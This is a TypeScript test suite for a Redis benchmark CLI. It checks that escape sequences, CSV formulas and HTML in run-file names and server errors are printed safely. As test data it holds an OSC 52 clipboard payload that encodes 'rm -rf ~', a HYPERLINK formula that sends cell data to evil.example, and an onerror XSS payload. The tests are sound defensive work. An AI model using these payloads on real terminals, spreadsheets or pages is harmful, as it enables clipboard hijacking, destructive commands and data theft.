// Issue 18, seen 11: the attacker's bytes on the CLI's output channels. A run file whose names carry ANSI
// colours and an OSC 52 clipboard write, printed by `rbench compare` and `rbench run --baseline`; a server
// that answers every command with an error holding ESC sequences; `compare --csv` with a formula for a
// name; `compare --markdown` with HTML and `|` in names. The built CLI, as a user runs it.
import assert from 'node:assert/strict';
import { createServer, type Server, type Socket } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ReplyScanner } from '../../../src/protocol/respScanner';
import type { RunFile } from '../../../src/results/runFile';
import { runCli, useScratch } from '../../helpers/cli';
import { useRedisServer } from '../../helpers/redis';
import { loadResult, makeRun } from '../compare/fixtures';
import { serveOnLoopback } from '../../helpers/fakeRedis';

const OSC52 = '\x1b]52;c;cm0gLXJmIH4K\x07';
const COLOUR = '\x1b[31mred\x1b[0m';
/** What must never reach a terminal raw: ESC, BEL, CSI (C1) and a bidi override. */
const RAW_CONTROL = /[\x07\x1b\x9b\u202e]/; // eslint-disable-line no-control-regex

function assertNoRawControl(result: { stdout: string; stderr: string }): void {
  assert.ok(!RAW_CONTROL.test(result.stdout), `stdout holds a raw control character: ${JSON.stringify(result.stdout)}`);
  assert.ok(!RAW_CONTROL.test(result.stderr), `stderr holds a raw control character: ${JSON.stringify(result.stderr)}`);
}

/** Two run files of one scenario whose names (scenario, test, machine, server) carry escape sequences. */
function hostileRuns(test = `GET ${COLOUR}`): RunFile[] {
  return [400_000, 500_000].map((ops, i) => {
    const run = makeRun({ id: `run-${i}`, text: '### get\nrequests 10000\nGET k\n', results: { '': [[loadResult('main', test, { ops, p99: 1000 })]] } });
    run.scenario.name = `bench ${OSC52}\u202e${COLOUR}`;
    run.plan.name = run.scenario.name;
    run.machine.cpuModel = `CPU ${OSC52}`;
    run.target.display = `redis://${COLOUR}:6379`;
    run.target.server!.version = `7.2 ${OSC52}`;
    return run;
  });
}

/** A RESP server that answers every command with `-ERR` + escape sequences (clear screen, OSC 52). */
function erringServer(): Promise<{ port: number; close(): Promise<void> }> {
  const sockets = new Set<Socket>();
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    const scanner = new ReplyScanner();
    socket.on('error', () => socket.destroy());
    socket.on('close', () => sockets.delete(socket));
    socket.on('data', (chunk: Buffer) => {
      const commands = scanner.scan(chunk);
      for (let i = 0; i < commands; i++) socket.write(`-ERR \x1b[2J\x1b[H${OSC52}owned\r\n`);
    });
  });
  return serveOnLoopback(server, sockets);
}

describe('CLI output: escape sequences from run files and servers are shown as text (issue 18, seen 11)', function () {
  this.timeout(60_000);
  const scratch = useScratch();
  const server = useRedisServer();

  function writeRuns(runs: RunFile[]): string[] {
    return runs.map((run, i) => {
      const path = join(scratch.dir, `run-${i}.rbench-run.json`);
      writeFileSync(path, JSON.stringify(run));
      return path;
    });
  }

  it('rbench compare (text, Markdown, CSV) prints no raw ESC or BEL, and shows the escapes', async () => {
    const files = writeRuns(hostileRuns());
    for (const format of [[], ['--markdown'], ['--csv', '-']]) {
      const result = await runCli(['compare', ...files, ...format], { cwd: scratch.dir });
      assert.equal(result.code, 0, result.stderr);
      assertNoRawControl(result);
      assert.match(result.stdout, /\\u001b/, 'the text is shown, escaped');
    }
  });

  it('rbench compare prints no raw control character for an unreadable run file named with one either', async () => {
    const result = await runCli(['compare', join(scratch.dir, `missing${OSC52}.json`), 'x.json'], { cwd: scratch.dir });
    assert.equal(result.code, 2);
    assertNoRawControl(result);
  });

  it('rbench run --baseline prints the baseline run’s names escaped', async () => {
    const [baseline] = writeRuns(hostileRuns());
    const file = scratch.write('get.rbench', '### get\nrequests 200\nGET k\n');
    const result = await runCli(['run', file, '--url', server().url, '--baseline', baseline], { cwd: scratch.dir });
    assert.equal(result.code, 0, result.stdout + result.stderr);
    assert.match(result.stdout, /bench \\u001b\]52;c;cm0gLXJmIH4K\\u0007\\u202e/);
    assertNoRawControl(result);
  });

  it('a server answering every command with ESC sequences: its errors are printed escaped', async () => {
    const fake = await erringServer();
    try {
      const file = scratch.write('get.rbench', '### get\nrequests 50\nGET k\n');
      const result = await runCli(['run', file, '--url', `redis://127.0.0.1:${fake.port}`], { cwd: scratch.dir });
      assert.notEqual(result.code, 0);
      assert.match(result.stdout + result.stderr, /\\u001b\[2J/, 'the reply is reported, escaped');
      assertNoRawControl(result);
    } finally {
      await fake.close();
    }
  });

  it('compare --csv marks a formula in a test name as text', async () => {
    const files = writeRuns(hostileRuns('=HYPERLINK("http://evil.example/?"&A1,"click")'));
    const result = await runCli(['compare', ...files, '--csv', '-'], { cwd: scratch.dir });
    assert.equal(result.code, 0, result.stderr);
    const rows = result.stdout.trim().split('\n').slice(1);
    assert.ok(rows.length > 0);
    for (const row of rows) {
      assert.ok(row.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'), row);
      assert.ok(!/(^|,)"?=/.test(row), row);
    }
  });

  it('compare --markdown escapes HTML and `|` in names: the table keeps its columns', async () => {
    const files = writeRuns(hostileRuns('<img src=x onerror=alert(1)>|GET'));
    const result = await runCli(['compare', ...files, '--markdown'], { cwd: scratch.dir });
    assert.equal(result.code, 0, result.stderr);
    assert.ok(!result.stdout.includes('<img'), result.stdout);
    assert.match(result.stdout, /&lt;img src=x onerror=alert\(1\)&gt;\\\|GET/);
    const table = result.stdout.split('\n').filter((line) => line.startsWith('| '));
    const columns = (line: string) => line.split(/(?<!\\)\|/).length;
    assert.ok(table.length > 2);
    for (const line of table) assert.equal(columns(line), columns(table[0]), line);
  });
});

describe('exports of one run (rbench run --csv, the panel’s Copy as CSV / Markdown) use the same cells', () => {
  it('a formula in a test name is text in the redis-benchmark CSV; HTML and `|` are escaped in the Markdown table', async () => {
    const { breakdownRows } = await import('../../../src/results/breakdownRows');
    const { toMarkdown, toRedisBenchmarkCsv } = await import('../../../src/results/export');
    const [formula] = hostileRuns('=HYPERLINK("http://evil.example","x")');
    const csv = toRedisBenchmarkCsv(breakdownRows(formula));
    assert.match(csv, /\n"'=HYPERLINK\(""http:\/\/evil\.example"",""x""\)",/);
    const [html] = hostileRuns('<img src=x onerror=alert(1)>|GET');
    const markdown = toMarkdown(breakdownRows(html));
    assert.ok(!markdown.includes('<img'), markdown);
    assert.match(markdown, /\| &lt;img src=x onerror=alert\(1\)&gt;\\\|GET \|/);
  });
});
